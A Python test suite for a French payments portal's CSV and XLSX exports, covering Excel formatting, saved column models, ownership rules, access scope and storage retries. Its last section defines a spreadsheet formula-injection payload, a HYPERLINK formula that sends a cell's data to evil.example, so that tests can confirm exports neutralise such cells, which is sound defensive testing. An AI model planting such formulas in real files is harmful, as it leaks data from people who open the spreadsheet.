"""The CGLLS-style export read back as its users read it: the CSV as French Excel does (`;`,
BOM, decimal comma, accents), the XLSX with openpyxl (amounts are numbers, dates are dates);
columns chosen, ordered and renamed, kept as a named model; built in the background with its
progress; an association's export holds its own lines only."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import uuid
from decimal import Decimal

import httpx
import openpyxl
import pytest

from tests.conftest import run_jobs
from tests.conventions.conftest import post
from tests.payments.conftest import (
    Money,
    create_schedule,
    lines_of,
    login,
    pay,
    schedule_form,
    subsidy,
    text_of,
)


def columns(*keys: str, **labels: str) -> dict[str, str]:
    data = {}
    for position, key in enumerate(keys, 1):
        data[f"col-{key}"] = "on"
        data[f"pos-{key}"] = str(position)
        if key in labels:
            data[f"label-{key}"] = labels[key]
    return data


async def export(client: httpx.AsyncClient, money: Money, data: dict[str, str]) -> httpx.Response:
    """Asks for an export, lets the job run, and downloads the file."""
    response = await post(client, f"{money.base}/exports", {"action": "export", **data})
    assert response.status_code == 303, response.text[-2000:]
    page_url = response.headers["location"]
    waiting = await client.get(page_url)
    assert "En attente" in waiting.text and 'http-equiv="refresh"' in waiting.text
    await run_jobs()
    ready = await client.get(page_url)
    assert "Prêt" in ready.text and 'http-equiv="refresh"' not in ready.text
    download = await client.get(f"{page_url}/fichier")
    assert download.status_code == 200
    return download


async def paid_subsidy(client: httpx.AsyncClient, money: Money) -> uuid.UUID:
    await login(client, money.finance.email)
    schedule = await subsidy(client, money)
    advance = (await lines_of(money, schedule))[0]
    await pay(client, money, advance["id"], "100 000,50", "15/02/2026", "CGLLS-2026-0042")
    await create_schedule(
        client,
        money,
        schedule_form(
            money.partnership,
            "repayment",
            beneficiary=money.association,
            payer=money.lessor,
            total="1 234,56",
            label="Reversements à l'association",
            lines=[
                {
                    "label": "Réglement unique",
                    "amount": "1 234,56",
                    "expected_on": "01/06/2026",
                    "trigger": "date",
                }
            ],
        ),
    )
    return schedule


class TestCsv:
    async def test_french_excel_reads_it(self, client: httpx.AsyncClient, money: Money) -> None:
        await paid_subsidy(client, money)
        download = await export(
            client,
            money,
            {
                "format": "csv",
                **columns(
                    "convention",
                    "beneficiary",
                    "siret",
                    "number",
                    "label",
                    "amount_due",
                    "amount_paid",
                    "due_on",
                    "paid_on",
                    "status",
                    "reference",
                    beneficiary="Bénéficiaire (organisme)",
                ),
            },
        )
        assert download.headers["content-type"].startswith("text/csv")
        assert download.headers["content-disposition"].endswith(".csv")
        raw = download.content
        assert raw.startswith(b"\xef\xbb\xbf")  # the BOM: Excel then reads UTF-8
        rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
        assert rows[0] == [
            "Référence convention",
            "Bénéficiaire (organisme)",
            "SIRET du bénéficiaire",
            "N° d'échéance",
            "Libellé",
            "Montant dû",
            "Montant versé",
            "Date prévue",
            "Date de versement",
            "Statut",
            "Référence de paiement",
        ]
        body = {(r[0], r[3]): r for r in rows[1:]}
        assert len(rows) == 5  # three installments, one reversement
        advance = body[("CE-2026-001", "1")]
        assert advance[1] == "Bailleur alpha-habitat" and advance[2] == "73282932000074"
        assert advance[5] == "150000,00" and advance[6] == "100000,50"  # decimal comma
        assert Decimal(advance[6].replace(",", ".")) == Decimal("100000.50")
        assert advance[7] == "15/01/2026" and advance[8] == "15/02/2026"
        assert advance[9] == "Versé en partie" and advance[10] == "CGLLS-2026-0042"
        reversement = body[("CP-2026-001", "1")]
        assert reversement[4] == "Réglement unique" and reversement[5] == "1234,56"
        assert reversement[1] == "Association alpha-habitat" and reversement[9] == "Dû"
        assert reversement[8] == ""  # not paid yet


class TestXlsx:
    async def test_amounts_are_numbers_and_dates_are_dates(
        self, client: httpx.AsyncClient, money: Money
    ) -> None:
        await paid_subsidy(client, money)
        download = await export(
            client,
            money,
            {
                "format": "xlsx",
                **columns(
                    "kind",
                    "beneficiary",
                    "amount_due",
                    "amount_paid",
                    "remaining",
                    "due_on",
                    "late",
                ),
            },
        )
        book = openpyxl.load_workbook(io.BytesIO(download.content))
        sheet = book.active
        assert sheet is not None
        rows = list(sheet.iter_rows(values_only=True))
        assert rows[0] == (
            "Type",
            "Bénéficiaire",
            "Montant dû",
            "Montant versé",
            "Reste à verser",
            "Date prévue",
            "En retard",
        )
        advance = rows[1]
        assert advance[0] == "Subvention"
        assert isinstance(advance[2], (int, float)) and advance[2] == 150000
        assert advance[3] == 100000.5 and advance[4] == 49999.5
        assert isinstance(advance[5], dt.datetime) and advance[5].date() == dt.date(2026, 1, 15)
        assert advance[6] == "oui"  # expected in January, not fully paid
        cells = next(iter(sheet.iter_rows(min_row=2, max_row=2)))
        assert cells[2].number_format == '#,##0.00 "€"' and cells[5].number_format == "DD/MM/YYYY"
        assert rows[-1][0] == "Reversement" and rows[-1][2] == 1234.56


class TestModels:
    async def test_a_named_choice_of_columns_is_kept_and_reused(
        self,
        client: httpx.AsyncClient,
        make_client,  # type: ignore[no-untyped-def]
        money: Money,
    ) -> None:
        await paid_subsidy(client, money)
        choice = columns("paid_on", "amount_paid", "siret", amount_paid="Payé (€)")
        empty = await post(
            client, f"{money.base}/exports", {"action": "model", "model_name": "", **choice}
        )
        assert empty.status_code == 400 and "Donnez un nom au modèle" in text_of(empty.text)
        none = await post(client, f"{money.base}/exports", {"action": "export"})
        assert none.status_code == 400 and "au moins une colonne" in text_of(none.text)
        twice = columns("paid_on", "amount_paid", amount_paid="Date de versement")
        clash = await post(client, f"{money.base}/exports", {"action": "export", **twice})
        assert clash.status_code == 400 and "Deux colonnes s&#39;appellent" in clash.text
        saved = await post(
            client,
            f"{money.base}/exports",
            {"action": "model", "model_name": "Tableau CGLLS", "format": "csv", **choice},
        )
        assert saved.status_code == 303
        page = await client.get(f"{money.base}/exports")
        model_id = re.search(r'<option value="([0-9a-f-]{36})">Tableau CGLLS', page.text).group(1)  # type: ignore[union-attr]
        loaded = await client.get(f"{money.base}/exports?modele={model_id}")
        assert (
            'id="f-label-amount_paid" name="label-amount_paid" type="text" value="Payé (€)"'
            in loaded.text
        )
        position = re.search(r'name="pos-paid_on"[^>]*value="(\d*)"', loaded.text)
        assert position and position.group(1) == "1"
        download = await export(client, money, {"format": "csv", **choice})
        header = download.content.decode("utf-8-sig").splitlines()[0]
        assert header == "Date de versement;Payé (€);SIRET du bénéficiaire"
        # Only whoever saved it removes it (to anyone else, it is not even there).
        worker = make_client()
        await login(worker, money.cast.world.tenant.association_worker.email)
        delete = f"{money.base}/exports/modeles/{model_id}/suppression"
        assert (await post(worker, delete, {})).status_code == 404
        assert (await post(client, delete, {})).status_code == 303
        after = (await client.get(f"{money.base}/exports")).text
        assert "Modèle « Tableau CGLLS » supprimé." in after
        assert ">Tableau CGLLS</a>" not in after and ">Tableau CGLLS</option>" not in after


def model_id_of(page: str, name: str) -> str | None:
    found = re.search(rf'<option value="([0-9a-f-]{{36}})"[^>]*>{re.escape(name)}</option>', page)
    return found.group(1) if found else None


async def save_model(
    client: httpx.AsyncClient, money: Money, name: str, *keys: str, **extra: str
) -> httpx.Response:
    return await post(
        client,
        f"{money.base}/exports",
        {"action": "model", "model_name": name, "format": "csv", **columns(*keys), **extra},
    )


async def model_columns(money: Money, name: str) -> list[str]:
    from portal.payments.tables import ExportModel

    [row] = (
        await ExportModel.select(ExportModel.columns)
        .where(ExportModel.name == name)
        .output(load_json=True)
    )
    return [c["key"] for c in row["columns"]]


async def listed(client: httpx.AsyncClient, money: Money, name: str) -> str | None:
    return model_id_of((await client.get(f"{money.base}/exports")).text, name)


class TestModelOwnership:
    async def test_a_name_taken_by_someone_else_asks_for_another_name(
        self,
        client: httpx.AsyncClient,
        make_client,  # type: ignore[no-untyped-def]
        money: Money,
    ) -> None:
        await login(client, money.finance.email)
        assert (await save_model(client, money, "Tableau CGLLS", "siret")).status_code == 303
        pilot = make_client()
        await login(pilot, money.cast.world.tenant.pilot.email)
        taken = await save_model(pilot, money, "Tableau CGLLS", "label", replace="on")
        assert taken.status_code == 400
        page = text_of(taken.text)
        assert "Le nom « Tableau CGLLS » est déjà pris par un autre modèle" in page
        field = re.search(r'<div class="field field--error">.*?</div>', taken.text, re.S)
        assert field and 'for="f-model-name"' in field.group(0) and "déjà pris" in field.group(0)
        assert 'value="Tableau CGLLS"' in taken.text  # what was typed, to change it
        assert await model_columns(money, "Tableau CGLLS") == ["siret"]  # nothing replaced

    async def test_the_owner_replaces_their_model_once_they_confirm(
        self, client: httpx.AsyncClient, money: Money
    ) -> None:
        await login(client, money.finance.email)
        assert (await save_model(client, money, "Mensuel", "siret")).status_code == 303
        again = await save_model(client, money, "Mensuel", "label", "amount_due")
        assert again.status_code == 400
        assert "Vous avez déjà un modèle « Mensuel »" in text_of(again.text)
        assert 'name="replace"' in again.text
        assert await model_columns(money, "Mensuel") == ["siret"]
        confirmed = await save_model(client, money, "Mensuel", "label", "amount_due", replace="on")
        assert confirmed.status_code == 303
        assert await model_columns(money, "Mensuel") == ["label", "amount_due"]

    async def test_only_a_pilot_shares_a_model_with_the_consortium(
        self,
        client: httpx.AsyncClient,
        make_client,  # type: ignore[no-untyped-def]
        money: Money,
    ) -> None:
        tenant = money.cast.world.tenant
        await login(client, money.finance.email)
        assert (await save_model(client, money, "Suivi finances", "siret")).status_code == 303
        model_id = model_id_of((await client.get(f"{money.base}/exports")).text, "Suivi finances")
        assert model_id
        base = f"{money.base}/exports/modeles/{model_id}"
        worker, pilot = make_client(), make_client()
        await login(worker, tenant.association_worker.email)
        await login(pilot, tenant.pilot.email)
        # Private: its owner's, and the pilot's to see so as to publish it.
        assert await listed(worker, money, "Suivi finances") is None
        assert (await post(worker, f"{base}/suppression", {})).status_code == 404
        assert (await post(client, f"{base}/partage", {"shared": "on"})).status_code == 403
        assert (await post(worker, f"{base}/partage", {"shared": "on"})).status_code == 403
        shared = await post(pilot, f"{base}/partage", {"shared": "on"})
        assert shared.status_code == 303
        page = (await worker.get(f"{money.base}/exports")).text
        assert model_id_of(page, "Suivi finances") == model_id
        assert "partagé avec le consortium" in text_of(page)
        # Shared, it still belongs to whoever saved it.
        assert (await post(worker, f"{base}/suppression", {})).status_code == 403
        assert (await post(pilot, f"{base}/suppression", {})).status_code == 403
        taken = await save_model(worker, money, "Suivi finances", "label", replace="on")
        assert taken.status_code == 400 and "déjà pris" in text_of(taken.text)
        assert (await post(pilot, f"{base}/partage", {})).status_code == 303
        assert await listed(worker, money, "Suivi finances") is None
        assert (await post(client, f"{base}/suppression", {})).status_code == 303

    async def test_a_name_taken_during_the_save_asks_for_another_name(
        self,
        client: httpx.AsyncClient,
        make_client,  # type: ignore[no-untyped-def]
        money: Money,
        monkeypatch: pytest.MonkeyPatch,
    ) -> None:
        """Two people saving the same new name at once: the second one's check saw nothing, the
        database's unique index refuses the insert; the answer is the same French message."""
        from portal.payments import repository

        await login(client, money.finance.email)
        assert (await save_model(client, money, "Trimestriel", "siret")).status_code == 303

        async def nothing_yet(*args: object) -> None:
            return None

        monkeypatch.setattr(repository, "export_model_named", nothing_yet)
        pilot = make_client()
        await login(pilot, money.cast.world.tenant.pilot.email)
        raced = await save_model(pilot, money, "Trimestriel", "label")
        assert raced.status_code == 400
        assert "Le nom « Trimestriel » est déjà pris" in text_of(raced.text)
        assert await model_columns(money, "Trimestriel") == ["siret"]


class TestHousekeeping:
    async def test_files_are_removed_after_a_week(
        self, client: httpx.AsyncClient, money: Money
    ) -> None:
        from portal.payments import exports

        await paid_subsidy(client, money)
        response = await post(
            client, f"{money.base}/exports", {"action": "export", **columns("label")}
        )
        url = response.headers["location"]
        await run_jobs()
        assert (await client.get(f"{url}/fichier")).status_code == 200
        now = dt.datetime.now(dt.UTC)
        assert await exports.remove_old(now) == 0  # still fresh
        assert await exports.remove_old(now + dt.timedelta(days=8)) == 1
        assert await exports.remove_old(now + dt.timedelta(days=8)) == 0
        assert (await client.get(f"{url}/fichier")).status_code == 404
        assert "a été supprimé au bout de 7 jours" in text_of((await client.get(url)).text)


class TestScope:
    async def test_an_association_exports_its_own_lines_only(
        self,
        client: httpx.AsyncClient,
        make_client,
        money: Money,  # type: ignore[no-untyped-def]
    ) -> None:
        await paid_subsidy(client, money)
        worker = make_client()
        await login(worker, money.cast.world.tenant.association_worker.email)
        download = await export(worker, money, {"format": "csv", **columns("beneficiary", "label")})
        rows = list(csv.reader(io.StringIO(download.content.decode("utf-8-sig")), delimiter=";"))
        assert rows[1:] == [["Association alpha-habitat", "Réglement unique"]]
        # Someone else's export is not found, even in the same consortium.
        response = await post(
            worker, f"{money.base}/exports", {"action": "export", **columns("label")}
        )
        other_url = response.headers["location"]
        assert (await client.get(other_url)).status_code == 404
        assert (await client.get(f"{other_url}/fichier")).status_code == 404


class TestDocumentation:
    def test_every_column_is_documented_in_the_readme(self) -> None:
        from pathlib import Path

        from portal.payments.exports import COLUMNS

        readme = (Path(__file__).resolve().parents[2] / "README.md").read_text(encoding="utf-8")
        for column in COLUMNS:
            assert f"| `{column.key}` | {column.label} | {column.help}" in readme, column.key


class TestStorageDown:
    async def test_the_export_says_when_it_will_try_again_then_is_ready(
        self,
        client: httpx.AsyncClient,
        money: Money,
        monkeypatch,  # type: ignore[no-untyped-def]
    ) -> None:
        from portal.core import clock as portal_clock
        from portal.core import storage as storage_module
        from portal.core.storage import StorageError
        from portal.core.templating import PARIS
        from portal.jobs.tables import OutboxJob

        await paid_subsidy(client, money)
        response = await post(
            client, f"{money.base}/exports", {"action": "export", **columns("label")}
        )
        page_url = response.headers["location"]
        backend = storage_module.get_storage()

        async def refused(*args: object, **kwargs: object) -> None:
            raise StorageError("connection refused")

        # The storage comes back by undoing this patch only (not the clock's).
        with monkeypatch.context() as down:
            down.setattr(backend, "put_file", refused)
            await run_jobs()
            [job] = await OutboxJob.select().where(OutboxJob.name == "payments.export")
            retry = f"{job['run_after'].astimezone(PARIS):%H:%M}"
            waiting = await client.get(page_url)
            assert f"Nouvelle tentative à {retry}" in waiting.text
            assert "stockage des documents ne répond pas" in waiting.text.replace("&#39;", "'")
            assert 'http-equiv="refresh"' in waiting.text  # it keeps looking
            assert "nouvelle tentative à" in (await client.get(f"{money.base}/exports")).text
            assert job["attempts"] == 0  # an outage, not a failed attempt

        await OutboxJob.update({OutboxJob.run_after: portal_clock.now()}).where(
            OutboxJob.id == job["id"]
        )
        await run_jobs()
        ready = await client.get(page_url)
        assert "Prêt" in ready.text and "Nouvelle tentative" not in ready.text
        assert (await client.get(f"{page_url}/fichier")).status_code == 200


LEAK = '=HYPERLINK("https://evil.example/?d="&A2,"Détails")'


async def booby_trapped(client: httpx.AsyncClient, money: Money) -> None:
    """Text a careless or hostile member typed, that a spreadsheet would run as formulas."""
    await login(client, money.finance.email)
    schedule = await create_schedule(
        client,
        money,
        schedule_form(
            money.partnership,
            "repayment",
            beneficiary=money.association,
            payer=money.lessor,
            total="1 234,56",
            label=LEAK,
            lines=[
                {
                    "label": "@SUM(1+1)",
                    "amount": "1 234,56",
                    "expected_on": "01/06/2026",
                    "trigger": "date",
                }
            ],
        ),
    )
    [line] = await lines_of(money, schedule)
    response = await pay(client, money, line["id"], "1 000", "15/06/2026", "+33-VIR-1")
    assert response.status_code == 303, response.text[-2000:]


FORMULA_COLUMNS = columns(
    "schedule", "label", "reference", "amount_paid", "remaining", "paid_on", schedule="-2+3"
)


class TestFormulas:
    async def test_xlsx_cells_that_look_like_formulas_are_text(
        self, client: httpx.AsyncClient, money: Money
    ) -> None:
        await booby_trapped(client, money)
        download = await export(client, money, {"format": "xlsx", **FORMULA_COLUMNS})
        sheet = openpyxl.load_workbook(io.BytesIO(download.content)).active
        assert sheet is not None
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"]
        header, row = list(sheet.iter_rows(max_row=2))
        assert header[0].value == "-2+3" and header[0].data_type == "s"
        assert row[0].value == LEAK and row[0].data_type == "s" and row[0].quotePrefix
        assert row[1].value == "@SUM(1+1)" and row[2].value == "+33-VIR-1"
        # Real numbers and dates stay numbers and dates.
        assert row[3].data_type == "n" and row[3].value == 1000
        assert row[4].data_type == "n" and row[4].value == 234.56
        assert isinstance(row[5].value, dt.datetime)

    async def test_csv_cells_that_look_like_formulas_start_with_a_quote(
        self, client: httpx.AsyncClient, money: Money
    ) -> None:
        await booby_trapped(client, money)
        download = await export(client, money, {"format": "csv", **FORMULA_COLUMNS})
        rows = list(csv.reader(io.StringIO(download.content.decode("utf-8-sig")), delimiter=";"))
        assert rows[0][0] == "'-2+3"
        assert rows[1] == [
            f"'{LEAK}",
            "'@SUM(1+1)",
            "'+33-VIR-1",
            "1000,00",
            "234,56",
            "15/06/2026",
        ]
